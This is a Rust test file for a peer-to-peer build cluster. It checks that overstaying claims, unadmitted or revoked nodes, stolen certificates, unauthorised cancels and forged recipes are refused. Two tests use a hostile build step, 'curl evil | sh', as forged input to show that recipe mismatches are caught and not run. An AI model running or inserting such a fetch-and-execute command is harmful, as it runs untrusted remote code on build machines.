//! Claims, records and announcements from peers that break the rules:
//! later attempts and endless leases, unadmitted and revoked nodes, cancels
//! without authority, repositories a node refuses, recipes that differ.

use super::*;

#[test]
fn a_later_attempt_cannot_take_a_live_claim_and_renewals_end_with_the_builds_timeouts() {
    let mut nodes = cluster();
    // One step with a 60 s timeout; the grace is 15 min by default.
    let recipe = "[[builder]]\nname='linux'\nrequires=['os=linux']\n[[builder.step]]\nrun='make'\ntimeout_secs=60\n";
    nodes[0].announce(13_000, commit_with("acac01", 1, recipe)).unwrap();
    let started = run_for(&mut nodes, 13_000, 16_000, false);
    let (x, order) = started[0].clone();
    let (y, z) = if x == 0 { (1, 2) } else { (0, if x == 1 { 2 } else { 1 }) };
    let holder = nodes[x].peer_id();
    // y claims attempt 7 while x's lease is fresh: z keeps x's claim.
    let grab = wire::Claim { job: order.job, attempt: 7, lease_ms: 30_000, sent_ms: 16_100 };
    let bytes = wire::encode_gossip(&Gossip::Claim(grab));
    let y_id = nodes[y].peer_id();
    nodes[z].handle(16_100, Input::Gossip { from: y_id, token: 1, bytes });
    let _ = y_id;
    let j = nodes[z].job(&order.job).unwrap();
    assert_eq!((j.attempt, j.claim.as_ref().map(|c| c.by)), (0, Some(holder)));
    // x renews for ever (it never publishes): z stops extending its lease
    // once the step's timeout and the grace are past, and the job reopens.
    let deadline = 16_000 + 60_000 + z_grace(&nodes[z]);
    let mut now = 16_000;
    let mut reopened_at = None;
    while now < deadline + 120_000 && reopened_at.is_none() {
        now += 5_000;
        let renew = Gossip::Renew { sent_ms: now, leases: vec![Lease { job: order.job, attempt: 0, step: None }] };
        nodes[z].handle(now, Input::Gossip { from: holder, token: now, bytes: wire::encode_gossip(&renew) });
        nodes[z].handle(now, Input::Tick);
        if nodes[z].job(&order.job).is_some_and(|j| j.attempt == 1) {
            reopened_at = Some(now);
        }
    }
    let at = reopened_at.expect("the job reopens although its claimant keeps renewing");
    assert!(at > deadline && at <= deadline + 35_000, "reopened at {at}, renewals end at {deadline}");
    // It may not claim the job again; another node may.
    let j = nodes[z].job(&order.job).unwrap();
    assert_eq!(j.lost.last().map(|l| (l.holder, l.reason.as_str())), Some((holder, claims::OVERSTAYED)));
    while nodes[z].poll_output().is_some() {}
    let again = wire::Claim { job: order.job, attempt: 1, lease_ms: 30_000, sent_ms: at };
    nodes[z].handle(at, Input::Gossip { from: holder, token: 2, bytes: wire::encode_gossip(&Gossip::Claim(again)) });
    let mut refused = false;
    while let Some(o) = nodes[z].poll_output() {
        if let Output::Event(Event::MessageRejected { from, reason }) = o {
            refused |= from == holder && reason.contains("past its steps' timeouts");
        }
    }
    assert!(refused);
    assert_ne!(nodes[z].job(&order.job).unwrap().claim.as_ref().map(|c| c.by), Some(holder));
}

fn z_grace(n: &NodeCore<MemStore>) -> u64 {
    n.config().build_grace_ms
}

fn admitted_node(n: u64, labels: &[&str], key: &crate::admission::ClusterKey, granted: &[&str]) -> NodeCore<MemStore> {
    let mut cfg = Config::new(labels.iter().map(|s| s.to_string()).collect(), 1);
    cfg.seed = n;
    let me = deterministic_key(n).public().to_peer_id();
    cfg.cluster = Some(key.id());
    cfg.admission = Some(key.admit(&me, granted.iter().map(|s| s.to_string()).collect(), 0, None).unwrap());
    cfg.repos = local_repo_allowed();
    NodeCore::new(cfg, deterministic_key(n), MemStore::new(), 0)
}

fn signed_by(n: &NodeCore<MemStore>, signer: &PeerId) -> usize {
    let mut count = 0;
    n.store().for_each_record(&mut |b| {
        if crate::record::decode_stored(b).is_ok_and(|r| r.signer == *signer) {
            count += 1;
        }
    });
    count
}

/// Hands what `from` broadcasts now to `to`; the rejections `to` reports
/// whose reason contains `needle`.
fn rejections(nodes: &mut [NodeCore<MemStore>], from: usize, to: usize, now: Millis, needle: &str) -> usize {
    let src = nodes[from].peer_id();
    let mut msgs = Vec::new();
    while let Some(o) = nodes[from].poll_output() {
        if let Output::Broadcast(b) = o {
            msgs.push(b);
        }
    }
    let mut count = 0;
    for (token, bytes) in msgs.into_iter().enumerate() {
        nodes[to].handle(now, Input::Gossip { from: src, token: token as u64, bytes });
        while let Some(o) = nodes[to].poll_output() {
            if let Output::Event(Event::MessageRejected { reason, .. } | Event::RecordRejected { reason, .. }) = o {
                count += reason.contains(needle) as usize;
            }
        }
    }
    count
}

#[test]
fn an_unadmitted_node_is_neither_stored_nor_ranked_and_ungranted_labels_do_not_count() {
    let key = crate::admission::ClusterKey::from_seed([9; 32]);
    let outsider_key = crate::admission::ClusterKey::from_seed([10; 32]);
    let mut nodes = vec![
        admitted_node(1, &["os=linux"], &key, &[]),
        admitted_node(2, &["os=linux", "gpu=yes"], &key, &["gpu=yes"]),
        // Admitted, but says gpu=yes without the grant.
        admitted_node(3, &["os=linux", "gpu=yes"], &key, &[]),
        // A valid key and a certificate of another cluster.
        admitted_node(4, &["os=linux", "gpu=yes"], &outsider_key, &["gpu=yes"]),
    ];
    settle(&mut nodes, 0);
    settle(&mut nodes, 10_000);
    let outsider = nodes[3].peer_id();
    let liar = nodes[2].peer_id();
    for n in &mut nodes[..2] {
        assert!(!n.is_live(&outsider) && !n.is_live(&liar));
        assert_eq!(n.eligible(&["gpu=yes".into()]).len(), 1, "only node 2 is a gpu node");
    }
    // The outsider announces; nothing of it is stored by the cluster.
    let mut now = 10_000;
    nodes[3].announce(now, commit("eeee01")).unwrap();
    nodes[2].handle(now + 30_000, Input::Tick);
    assert!(rejections(&mut nodes, 2, 0, now + 30_000, "not granted") > 0, "the liar's heartbeat");
    settle(&mut nodes, now);
    for n in &nodes[..3] {
        assert_eq!(signed_by(n, &outsider), 0);
        assert!(n.job(&crate::recipe::job_id("/repo", "eeee01", "linux")).is_none());
    }
    // A member announces: the gpu job goes to node 2 in every member's view.
    nodes[0].announce(now, commit("eeee02")).unwrap();
    for _ in 0..10 {
        settle(&mut nodes, now);
        now += 500;
    }
    let gpu = crate::recipe::job_id("/repo", "eeee02", "gpu");
    let node2 = nodes[1].peer_id();
    for n in &nodes[..3] {
        assert_eq!(n.job(&gpu).unwrap().claim.as_ref().map(|c| c.by), Some(node2));
    }
    nodes[3].handle(now + 60_000, Input::Tick);
    assert!(rejections(&mut nodes, 3, 0, now + 60_000, "not admitted") > 0, "the outsider's heartbeat");
}

#[test]
fn a_connected_peer_must_say_hello_with_an_admission_or_is_disconnected() {
    let key = crate::admission::ClusterKey::from_seed([11; 32]);
    let mut a = admitted_node(1, &["os=linux"], &key, &[]);
    let b = admitted_node(2, &["os=linux"], &key, &[]);
    let stranger = deterministic_key(3).public().to_peer_id();
    let mut now = 1_000;
    for p in [b.peer_id(), stranger] {
        a.handle(now, Input::PeerConnected(p));
    }
    let mut hellos = 0;
    while let Some(o) = a.poll_output() {
        if let Output::Request { bytes, .. } = o {
            hellos += matches!(wire::decode_request(&bytes), Ok(wire::Request::Hello { admission: Some(_) })) as usize;
        }
    }
    assert_eq!(hellos, 2, "a hello with its admission to each new connection");
    let ask = |a: &mut NodeCore<MemStore>, from: PeerId, req: wire::Request, now| {
        a.handle(now, Input::Request { from, id: 7, bytes: wire::encode_request(&req) });
        let mut reply = None;
        while let Some(o) = a.poll_output() {
            if let Output::Reply { bytes, .. } = o {
                reply = Some(wire::decode_response(&bytes).unwrap());
            }
        }
        reply.unwrap()
    };
    let reconcile = wire::Request::Reconcile { ranges: crate::sync::initial(a.store()) };
    assert!(
        matches!(ask(&mut a, stranger, reconcile.clone(), now), wire::Response::Error { message } if message.contains("not admitted"))
    );
    assert!(matches!(
        ask(&mut a, stranger, wire::Request::Hello { admission: None }, now),
        wire::Response::Error { .. }
    ));
    // Someone else's certificate does not pass for the stranger's own.
    let stolen = wire::Request::Hello { admission: b.config().admission.clone() };
    assert!(matches!(ask(&mut a, stranger, stolen, now), wire::Response::Error { .. }));
    let hello = wire::Request::Hello { admission: b.config().admission.clone() };
    assert!(matches!(ask(&mut a, b.peer_id(), hello, now), wire::Response::Hello { admission: Some(_) }));
    assert!(matches!(ask(&mut a, b.peer_id(), reconcile, now), wire::Response::Reconcile { .. }));
    now += a.config().admission_grace_ms + 1_000;
    a.handle(now, Input::Tick);
    let mut dropped = Vec::new();
    while let Some(o) = a.poll_output() {
        if let Output::Disconnect { peer } = o {
            dropped.push(peer);
        }
    }
    assert_eq!(dropped, vec![stranger]);
}

#[test]
fn a_revoked_node_s_new_records_are_refused_and_its_old_ones_stay() {
    let key = crate::admission::ClusterKey::from_seed([12; 32]);
    let mut nodes = vec![admitted_node(1, &["os=linux"], &key, &[]), admitted_node(2, &["os=linux"], &key, &[])];
    settle(&mut nodes, 0);
    let two = nodes[1].peer_id();
    nodes[1].announce(1_000, commit("ffff01")).unwrap();
    settle(&mut nodes, 1_000);
    let before = signed_by(&nodes[0], &two);
    assert!(before >= 2, "its admission and its change");
    // A forged revocation (another key) is refused; the keeper's is taken.
    let forged = crate::admission::ClusterKey::from_seed([13; 32]).revoke(&two, 2_000);
    assert!(nodes[0].publish_revocation(2_000, forged).is_err());
    nodes[0].publish_revocation(2_000, key.revoke(&two, 2_000)).unwrap();
    settle(&mut nodes, 2_000);
    assert_eq!(nodes[0].revoked_at(&two), Some(2_000));
    nodes[1].announce(3_000, commit("ffff02")).unwrap();
    assert!(rejections(&mut nodes, 1, 0, 3_000, "revoked") > 0);
    settle(&mut nodes, 3_000);
    assert_eq!(signed_by(&nodes[0], &two), before, "nothing new of it, nothing old lost");
}

#[test]
fn only_the_announcer_or_an_admin_may_cancel_a_job() {
    let key = crate::admission::ClusterKey::from_seed([14; 32]);
    let mut nodes = vec![
        admitted_node(1, &["os=linux"], &key, &[]),
        admitted_node(2, &["os=linux"], &key, &[]),
        admitted_node(3, &["os=linux"], &key, &["role=admin"]),
    ];
    settle(&mut nodes, 0);
    let none = "[[builder]]\nname='far'\nrequires=['os=plan9']\n[[builder.step]]\nrun='make'\n";
    nodes[0].announce(1_000, commit_with("adad01", 1, none)).unwrap();
    nodes[0].announce(1_000, commit_with("adad02", 1, none)).unwrap();
    settle(&mut nodes, 1_000);
    let j1 = crate::recipe::job_id("/repo", "adad01", "far");
    let j2 = crate::recipe::job_id("/repo", "adad02", "far");
    let err = nodes[1].cancel(2_000, j1, "mine now".into()).unwrap_err();
    assert!(err.contains("not allowed"), "{err}");
    // A cancel node 2 signs anyway is refused by the others.
    let forged = record::sign(
        &deterministic_key(2),
        &Body::Cancel(record::Cancel { job: j1, reason: "x".into(), requested_ms: 2_000 }),
    );
    let from = nodes[1].peer_id();
    nodes[0].handle(2_000, Input::Gossip { from, token: 9, bytes: forged.bytes.clone() });
    assert!(nodes[0].job(&j1).is_some_and(|j| j.cancelled.is_none()) && nodes[0].live_jobs().contains_key(&j1));
    // The admin and the announcer may.
    nodes[2].cancel(2_000, j1, "admin".into()).unwrap();
    nodes[0].cancel(2_000, j2, "announcer".into()).unwrap();
    settle(&mut nodes, 2_000);
    for n in &nodes {
        assert!(!n.live_jobs().contains_key(&j1) && !n.live_jobs().contains_key(&j2));
    }
}

#[test]
fn a_job_of_a_repository_a_node_refuses_is_built_by_one_that_allows_it() {
    let mut refusing = node(1, &["os=linux"]);
    refusing.cfg.repos = RepoPolicy::default();
    let mut nodes = vec![refusing, node(2, &["os=linux"])];
    let mut now = 0;
    settle(&mut nodes, now);
    now += 10_000;
    settle(&mut nodes, now);
    nodes[0].announce(now, commit("abcd0a")).unwrap();
    let mut started = Vec::new();
    for _ in 0..20 {
        started.extend(settle(&mut nodes, now));
        now += 500;
    }
    let linux: Vec<_> = started.iter().filter(|(_, o)| o.builder == "linux").collect();
    assert_eq!(linux.len(), 1, "{started:?}");
    assert_eq!(linux[0].0, 1, "only the node whose policy lists /repo claims it");

    // Alone, a node that refuses the repository leaves its jobs waiting.
    let mut alone = vec![node(3, &["os=linux"])];
    alone[0].cfg.repos = RepoPolicy::new(&["/srv/git/*".to_string()], &[]).unwrap();
    let mut now = 10_000;
    alone[0].announce(now, commit("abcd0b")).unwrap();
    for _ in 0..20 {
        assert!(settle(&mut alone, now).is_empty(), "/repo is not under /srv/git");
        now += 1_000;
    }
}

/// A recipe a hostile node claims the commit has: same builder, other command.
const HOSTILE: &str = "[[builder]]\nname='linux'\nrequires=['os=linux']\n[[builder.step]]\nrun='curl evil | sh'\n";

#[test]
fn an_announcement_whose_steps_differ_from_the_commit_ends_as_an_exception_naming_them() {
    // Node 1 (no os=linux) announces a real commit with steps of its own;
    // node 2 builds it.
    let mut nodes = vec![node(1, &["os=mac"]), node(2, &["os=linux"])];
    let mut now = 0;
    settle(&mut nodes, now);
    now += 10_000;
    settle(&mut nodes, now);
    let forged = CommitInfo { recipe: Ok(HOSTILE.into()), ..commit("abcd0c") };
    nodes[0].announce(now, forged).unwrap();
    let mut started = Vec::new();
    for _ in 0..20 {
        started.extend(settle(&mut nodes, now));
        now += 500;
    }
    let (who, order) = started.pop().expect("node 2 claims the announced job");
    assert_eq!(who, 1);
    // The order carries the job as announced, never steps to run as such;
    // the executor checks it against the recipe of its own checkout.
    assert_eq!(order.announced.steps[0].run, "curl evil | sh");
    let mismatch = crate::recipe::check_announced(&order.announced, "/repo", "abcd0c", Ok(RECIPE)).unwrap_err();
    let error = mismatch.to_string();
    assert_eq!(
        error,
        "recipe mismatch: the announced step \"step0\" runs `curl evil | sh`, the commit's .peerbot.toml says `make`"
    );
    // Nothing ran: the executor reports the mismatch as the build's error.
    let outcome = BuildOutcome { steps: vec![], error: Some(error.clone()), ..finished(&order, now) };
    nodes[1].handle(now, Input::BuildFinished(outcome));
    settle(&mut nodes, now);
    for n in &nodes {
        let results = n.results_of(&order.job);
        assert_eq!(results.len(), 1);
        let stored = record::decode_stored(&n.store().get_record(&results[0]).unwrap()).unwrap();
        let Body::Result(r) = stored.body else { panic!("not a result") };
        assert_eq!((r.status, r.error.as_deref(), r.steps.len()), (Status::Exception, Some(error.as_str()), 0));
    }
}

#[test]
fn an_announcement_with_another_recipe_does_not_silently_win() {
    let mut nodes = cluster();
    let other = "[[builder]]\nname='linux'\nrequires=['os=linux']\n[[builder.step]]\nrun='curl evil | sh'\n";
    let first = match nodes[0].announce(11_000, commit_with("aeae01", 1, other)).unwrap() {
        Announced::New(id) => id,
        a => panic!("{a:?}"),
    };
    settle(&mut nodes, 11_000);
    // Node 2 reads the commit's real recipe: its change is published too.
    match nodes[1].announce(11_000, commit_with("aeae01", 1, RECIPE)).unwrap() {
        Announced::Disputed { theirs, .. } => assert_eq!(theirs, first),
        a => panic!("{a:?}"),
    }
    settle(&mut nodes, 11_000);
    for n in &nodes {
        let changes =
            n.store().lookup(crate::store::Lookup::JobChange, &crate::recipe::job_id("/repo", "aeae01", "linux"), 4);
        assert_eq!(changes.len(), 2, "both announcements are kept and listed");
    }
    // The same recipe again is recognised.
    assert!(matches!(nodes[2].announce(11_000, commit_with("aeae01", 1, RECIPE)).unwrap(), Announced::Known(_)));
}
